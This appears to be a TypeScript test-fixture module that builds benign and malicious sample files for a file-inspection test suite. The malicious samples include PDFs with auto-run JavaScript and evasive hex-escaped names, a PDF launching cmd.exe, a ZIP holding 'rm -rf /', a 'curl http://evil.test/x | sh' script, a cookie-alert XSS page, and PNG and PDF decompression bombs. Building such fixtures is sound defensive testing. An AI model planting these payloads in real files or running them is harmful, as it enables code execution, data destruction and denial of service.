/**
 * Real files, good and malicious, generated in code for the file-inspection and documents tests.
 */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';

/** A text that each plain test file carries, to find it (or not) in the stored bytes. */
export const PLAIN_MARKER = 'CROUPIER-PLAIN-MARKER-7f3a';

export async function pngFile(width = 64, height = 48): Promise<Buffer> {
  return sharp({
    create: { width, height, channels: 3, background: { r: 200, g: 30, b: 60 } },
  })
    .png()
    .toBuffer();
}

/** A JPEG with EXIF (GPS, camera, orientation 6 = rotate 90°) the marker as its camera model. */
export async function jpegWithGps(): Promise<Buffer> {
  return sharp({
    create: { width: 80, height: 40, channels: 3, background: { r: 10, g: 120, b: 220 } },
  })
    .jpeg({ quality: 80 })
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: {
        Make: 'CroupierCam',
        Model: PLAIN_MARKER,
      },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '35/1 53/1 4530/100',
        GPSLongitudeRef: 'E',
        GPSLongitude: '14/1 30/1 1200/100',
      },
    })
    .toBuffer();
}

/** A plain one-page PDF with the marker in its text. */
export async function pdfFile(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([300, 200]);
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  page.drawText(`Passport ${PLAIN_MARKER}`, { x: 20, y: 100, size: 12, font });
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

/** A PDF whose catalog runs JavaScript when opened (built with pdf-lib). */
export async function pdfWithOpenActionJs(useObjectStreams = false): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([300, 200]);
  const action = pdf.context.obj({
    Type: 'Action',
    S: 'JavaScript',
    JS: PDFString.of("app.alert('pwned');"),
  });
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
  return Buffer.from(await pdf.save({ useObjectStreams }));
}

/** A hand-written PDF with an /OpenAction JavaScript, its names hex-escaped (/J#61vaScript). */
export function rawPdfWithEscapedJs(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    '<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
  ];
  return assemblePdf(objects);
}

/** A hand-written PDF that launches a program from a page's additional actions (/AA). */
export function rawPdfWithLaunch(): Buffer {
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>',
    '<< /S /Launch /F (cmd.exe) >>',
  ]);
}

function assemblePdf(objects: string[], trailerExtra = ''): Buffer {
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) body += `${String(off).padStart(10, '0')} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A minimal ZIP archive with one stored file (a polyglot tail). */
export function zipFile(name = 'payload.sh', content = '#!/bin/sh\nrm -rf /\n'): Buffer {
  const data = Buffer.from(content);
  const fname = Buffer.from(name);
  const compressed = deflateRawSync(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(compressed.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fname.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(compressed.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fname.length, 28);
  const localPart = Buffer.concat([local, fname, compressed]);
  const centralPart = Buffer.concat([central, fname]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(centralPart.length, 12);
  end.writeUInt32LE(localPart.length, 16);
  return Buffer.concat([localPart, centralPart, end]);
}

export const shellScript = () => Buffer.from('#!/bin/sh\ncurl http://evil.test/x | sh\n');
export const htmlPage = () =>
  Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');

/** A PNG whose IDAT stream is cut short: the structure is there, the pixels do not decode. */
export async function truncatedPng(): Promise<Buffer> {
  const png = await pngFile(200, 200);
  // Keep the signature and IHDR, then a broken IDAT, then IEND.
  const ihdrEnd = 8 + 12 + 13;
  const idat = Buffer.alloc(12 + 20);
  idat.writeUInt32BE(20, 0);
  idat.write('IDAT', 4, 'latin1');
  Buffer.from(
    'x\x9c\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10',
    'latin1',
  ).copy(idat, 8);
  const iend = png.subarray(png.length - 12);
  return Buffer.concat([png.subarray(0, ihdrEnd), idat, iend]);
}

/** A tiny PNG whose header declares a 30000 × 30000 canvas (a decompression bomb's header). */
export async function pixelBombPng(): Promise<Buffer> {
  const png = Buffer.from(await pngFile(1, 1));
  png.writeUInt32BE(30_000, 16);
  png.writeUInt32BE(30_000, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

/** A hand-written, harmless one-page PDF whose Info dictionary holds the marker as plain text. */
export function rawPdfWithMarker(): Buffer {
  return assemblePdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
      `<< /Title (${PLAIN_MARKER}) >>`,
    ],
    '/Info 4 0 R',
  );
}

/** A PDF whose object stream inflates to 50 MB (a deflate bomb for the parser). */
export function pdfObjectStreamBomb(): Buffer {
  const bomb = deflateSync(Buffer.alloc(50_000_000, 0x20), { level: 9 }).toString('latin1');
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb}\nendstream`,
  ]);
}
